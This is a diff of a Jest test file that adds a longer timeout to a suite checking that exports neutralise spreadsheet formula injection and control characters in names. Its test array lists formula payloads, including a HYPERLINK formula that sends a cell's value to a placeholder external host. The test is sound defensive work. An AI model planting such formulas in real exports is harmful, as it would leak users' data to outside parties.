@@ -13,6 +13,8 @@ import {
   startApi,
 } from './support/api-harness';
 
+// The setup signs and lists several projects: seconds on a loaded machine.
+jest.setTimeout(60_000);
 /** Issue 14, item 2: no export runs what an officer typed as a name; names carry no controls. */
 describe('exports and names (formula injection, control characters)', () => {
   const FORMULAS = ['=1+1', '@SUM(A1)', '-2+3', '+1', '=HYPERLINK("http://x.example/?"&A1,"click")'];
